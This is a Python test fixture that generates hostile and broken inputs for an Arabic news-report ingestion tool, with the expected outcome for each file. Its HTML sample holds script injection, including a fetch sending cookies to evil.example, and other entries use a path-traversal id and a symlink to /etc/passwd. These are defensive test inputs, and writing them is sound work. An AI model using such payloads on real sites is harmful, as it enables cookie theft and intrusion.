"""A corpus of hostile and broken inputs, generated into a folder by the tests (nothing big is committed).

``build(root)`` writes the corpus and returns ``{source_path: Expect}``: what rasd must do with each input.
Every text is written for the purpose (short, synthetic reports), never copied from a dev corpus.
"""
from __future__ import annotations

import json
import os
import random
from dataclasses import dataclass
from pathlib import Path

# A plain, extractable report (one killed, a known town, a date) used as the "normal" body.
REPORT = ("قتل شاب برصاص مجهولين في مدينة نوى بريف درعا الغربي، مساء الأحد 16 تشرين الأول 2022، "
          "بحسب ما أفاد مراسل محلي.\n")
DUP_TEXT = ("أصيب ثلاثة مدنيين بجروح جراء قصف مدفعي استهدف بلدة كفرنبل في ريف إدلب الجنوبي "
            "يوم الثلاثاء 11 تشرين الأول 2022، وفق ناشطين.\n")
ABSURD = "قتل 10000000 شخص في قصف جوي استهدف مدينة إدلب يوم الأحد 9 تشرين الأول 2022.\n"
SCRIPT_EVIDENCE = ("قتل شخصان <script>alert(1)</script> بانفجار عبوة ناسفة في مدينة جاسم بريف درعا "
                   "يوم السبت 15 تشرين الأول 2022.\n")
HTML_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>انفجار في جاسم</title>
<script>document.cookie='stolen'; alert("pwned-head")</script>
<style>body{background:url(javascript:alert('css'))}</style></head>
<body onload="alert('onload-handler')">
<nav><a href="javascript:alert('nav-link')">الرئيسية</a></nav>
<article><h1>انفجار في جاسم</h1>
<p onclick="alert('onclick-handler')">قتل رجل وأصيب طفلان بانفجار عبوة ناسفة في مدينة جاسم بريف درعا الشمالي
صباح الخميس 13 تشرين الأول 2022، بحسب مصادر محلية.</p>
<script type="text/javascript">var evil = "inline-script-body"; fetch("http://evil.example/"+document.cookie);</script>
<iframe src="http://evil.example/frame" onload="alert('iframe-handler')">iframe-fallback-text</iframe>
<img src="x.png" onerror="alert('img-onerror')">
<p>وقالت المصادر إن الانفجار وقع قرب سوق المدينة.</p>
<noscript>noscript-body</noscript>
<svg><script>alert('svg-script')</script></svg>
</article></body></html>
"""
# Strings that must never reach the cleaned text of the HTML article.
HTML_FORBIDDEN = ("alert", "pwned", "cookie", "inline-script-body", "evil.example", "javascript:", "onerror",
                  "onclick", "onload", "iframe", "<script", "svg-script", "document.")
ENGLISH = ("Two people were killed and five wounded when a car bomb exploded in the town of Azaz on Sunday, "
           "according to local sources, the monitor said.\n")
FRENCH = ("Deux personnes ont été tuées dimanche dans l'explosion d'une voiture piégée dans la ville d'Azaz, "
          "selon des sources locales.\n")
N_COPIES = 1000
BIG_BYTES = 50 * 1024 * 1024


@dataclass(frozen=True)
class Expect:
    status: str  # "ok" | "quarantined" | "ok_or_quarantined"
    reason: tuple[str, ...] = ()  # one of these substrings must be in quarantine_reason
    note: str = ""


def _sidecar(path: Path, **meta) -> None:
    path.write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")


def build(root: Path, big: bool = True, copies: int = N_COPIES) -> dict[str, Expect]:
    """Write the hostile corpus under ``root``; return the expected outcome per source_path."""
    root.mkdir(parents=True, exist_ok=True)
    exp: dict[str, Expect] = {}
    rnd = random.Random(8)

    (root / "empty.txt").write_bytes(b"")
    exp["empty.txt"] = Expect("quarantined", ("empty",))
    (root / "whitespace.txt").write_bytes(b"  \n\t\r\n \xc2\xa0\n   ")
    exp["whitespace.txt"] = Expect("quarantined", ("empty",))
    (root / "binary.txt").write_bytes(bytes(rnd.randrange(256) for _ in range(4096)))
    exp["binary.txt"] = Expect("quarantined", ("binary", "undecodable", "garbled"))
    (root / "image.html").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(rnd.randrange(256) for _ in range(2048)))
    exp["image.html"] = Expect("quarantined", ("binary",))
    if big:  # over the 5 MB cap (settings.max_file_bytes); generated here, never committed
        line = (REPORT * 20).encode("utf-8")
        with open(root / "huge.txt", "wb") as fh:
            for _ in range(BIG_BYTES // len(line) + 1):
                fh.write(line)
        exp["huge.txt"] = Expect("quarantined", ("too large",))
    # Truncated UTF-8: the last Arabic letter is cut in the middle of its two bytes.
    body = REPORT.replace("نوى", "طفس").encode("utf-8").rstrip(b"\n")
    trunc = body[:-1] if body[-1] >= 0x80 else body + "ع".encode("utf-8")[:1]
    (root / "truncated.txt").write_bytes(trunc)
    exp["truncated.txt"] = Expect("ok_or_quarantined", ("undecodable", "garbled"), "text kept minus the cut letter, or quarantined")
    # Two encodings in one file: UTF-8 first paragraph, Windows-1256 second paragraph.
    mixed = ("انفجرت عبوة ناسفة في مدينة الصنمين بريف درعا الشمالي.\n".encode("utf-8")
             + "وقالت مصادر محلية إن الانفجار أسفر عن مقتل شخص واحد يوم الاثنين.\n".encode("cp1256"))
    (root / "mixed.txt").write_bytes(mixed)
    exp["mixed.txt"] = Expect("ok_or_quarantined", ("undecodable", "garbled", "mixed"), "never mojibake")
    # Malformed sidecars.
    (root / "badside.txt").write_text(REPORT.replace("نوى", "داعل"), encoding="utf-8")
    (root / "badside.json").write_text('{"id": "x1", "url": "http://a.example/1", "published_at": ', encoding="utf-8")
    exp["badside.txt"] = Expect("quarantined", ("sidecar",))
    (root / "listside.txt").write_text(REPORT.replace("نوى", "الحراك"), encoding="utf-8")
    (root / "listside.json").write_text('["not", "an", "object"]', encoding="utf-8")
    exp["listside.txt"] = Expect("quarantined", ("sidecar",))
    # Sidecar ids that try to be paths or terminal escapes (never used as a path; neutralised in doc_key).
    (root / "traversal.txt").write_text(REPORT.replace("نوى", "انخل"), encoding="utf-8")
    _sidecar(root / "traversal.json", id="../../etc/passwd", url="http://a.example/2", published_at="2022-10-17")
    exp["traversal.txt"] = Expect("ok")
    (root / "ctrlid.txt").write_text(REPORT.replace("نوى", "الشيخ مسكين"), encoding="utf-8")
    _sidecar(root / "ctrlid.json", id="evil\x1b[31m\x07\r\nid\u202e", url="http://a.example/3", published_at="2022-10-17")
    exp["ctrlid.txt"] = Expect("ok")
    # Malformed JSONL lines next to a good one.
    lines = [
        json.dumps({"id": "jl-good", "text": REPORT.replace("نوى", "جاسم"), "published_at": "2022-10-17"}, ensure_ascii=False),
        '{"id": "jl-broken", "text": "قتل',
        '["a", "list"]',
        json.dumps({"id": "jl-notext", "published_at": "2022-10-17"}),
        json.dumps({"id": "jl-nonstring", "text": 12345}),
        "",  # blank lines are not records
        "\x00\x01garbage\xff",
    ]
    (root / "feed.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8", errors="surrogateescape")
    exp["feed.jsonl#L1"] = Expect("ok")
    exp["feed.jsonl#L2"] = Expect("quarantined", ("malformed JSONL",))
    exp["feed.jsonl#L3"] = Expect("quarantined", ("malformed JSONL",))
    exp["feed.jsonl#L4"] = Expect("quarantined", ("no text",))
    exp["feed.jsonl#L5"] = Expect("quarantined", ("not a string",))
    exp["feed.jsonl#L7"] = Expect("quarantined", ("malformed JSONL", "undecodable", "garbled"))
    # HTML with scripts, iframes and event handlers: kept, but no script text in the cleaned text.
    (root / "scripted.html").write_text(HTML_PAGE, encoding="utf-8")
    _sidecar(root / "scripted.json", id="scripted", published_at="2022-10-14")
    exp["scripted.html"] = Expect("ok")
    # Article text (not HTML) quoting markup: stored as text; must be escaped wherever it is rendered as HTML.
    (root / "quoted_script.txt").write_text(SCRIPT_EVIDENCE, encoding="utf-8")
    _sidecar(root / "quoted_script.json", id="quoted-script", published_at="2022-10-16")
    exp["quoted_script.txt"] = Expect("ok")
    # An absurd figure: the article is ok, its event is quarantined by the gate (never in the aggregates).
    (root / "absurd.txt").write_text(ABSURD, encoding="utf-8")
    _sidecar(root / "absurd.json", id="absurd", published_at="2022-10-10")
    exp["absurd.txt"] = Expect("ok")
    # Publication dates in the future and in 1900 (metadata), and event dates in 1900 / the future (text).
    (root / "future.txt").write_text(REPORT.replace("نوى", "بصرى الشام"), encoding="utf-8")
    _sidecar(root / "future.json", id="future", published_at="2099-06-01")
    exp["future.txt"] = Expect("quarantined", ("future",))
    (root / "old.txt").write_text(REPORT.replace("نوى", "إزرع"), encoding="utf-8")
    _sidecar(root / "old.json", id="old", published_at="1900-01-01")
    exp["old.txt"] = Expect("quarantined", ("earliest",))
    (root / "textdates.txt").write_text(
        "قتل رجلان في قصف على مدينة بصرى الشام يوم 5 آذار 1900.\nوقتل ثلاثة آخرون في مدينة إزرع يوم 3 آذار 2099.\n",
        encoding="utf-8")
    _sidecar(root / "textdates.json", id="textdates", published_at="2022-10-18")
    exp["textdates.txt"] = Expect("ok")
    # Non-Arabic articles: kept, flagged by language, not extracted.
    (root / "english.txt").write_text(ENGLISH, encoding="utf-8")
    _sidecar(root / "english.json", id="english", published_at="2022-10-16")
    exp["english.txt"] = Expect("ok")
    (root / "french.txt").write_text(FRENCH, encoding="utf-8")
    _sidecar(root / "french.json", id="french", published_at="2022-10-16")
    exp["french.txt"] = Expect("ok")
    # A file rasd cannot read at all.
    (root / "notes.docx").write_bytes(b"PK\x03\x04" + b"\0" * 64)
    exp["notes.docx"] = Expect("quarantined", ("unsupported",))
    # File names: not valid UTF-8 (a ZIP made on Windows-1256), with a newline; ids and titles with lone surrogates.
    raw_name = b"cp1256-\xe4\xd9.txt"
    with open(os.path.join(os.fsencode(root), raw_name), "wb") as fh:
        fh.write(REPORT.replace("نوى", "الصورة").encode("utf-8"))
    exp[visible(os.fsdecode(raw_name))] = Expect("ok")
    (root / "new\nline.txt").write_text(REPORT.replace("نوى", "المسيفرة"), encoding="utf-8")
    exp["new\nline.txt"] = Expect("ok")
    (root / "surrogate.txt").write_text(REPORT.replace("نوى", "خربة غزالة"), encoding="utf-8")
    (root / "surrogate.json").write_text('{"id": "\\ud800x", "title": "\\udfff", "published_at": "2022-10-17"}', encoding="utf-8")
    exp["surrogate.txt"] = Expect("ok")
    # A symlink to a file outside the input folder: must not pull the machine's files into the warehouse.
    os.symlink("/etc/passwd", root / "leak.txt")
    exp["leak.txt"] = Expect("ok_or_quarantined", (), "see test_symlink_outside_the_input_is_not_read")
    # A FIFO is not a file: skipped (never opened: reading it would block the run forever), not an article.
    os.mkfifo(root / "pipe.txt")
    # The same article many times: one ok, the rest duplicates of it, no extra events.
    dup = root / "copies"
    dup.mkdir()
    for i in range(copies):
        (dup / f"copy-{i:04d}.txt").write_text(DUP_TEXT, encoding="utf-8")
        exp[f"copies/copy-{i:04d}.txt"] = Expect("ok", (), "duplicate")
    return exp


def visible(s: str) -> str:
    """How rasd shows a string that is not valid UTF-8 (lone surrogates as backslash escapes)."""
    return s.encode("utf-8", "backslashreplace").decode("utf-8")


def snapshot(root: Path) -> dict[str, tuple[int, int, int]]:
    """{relative path: (size, mtime_ns, mode)} of every file and folder under root (symlinks not followed)."""
    out = {}
    for p in sorted(root.rglob("*")):
        st = p.lstat()
        out[p.relative_to(root).as_posix()] = (st.st_size if not p.is_dir() else 0, st.st_mtime_ns, st.st_mode)
    return out
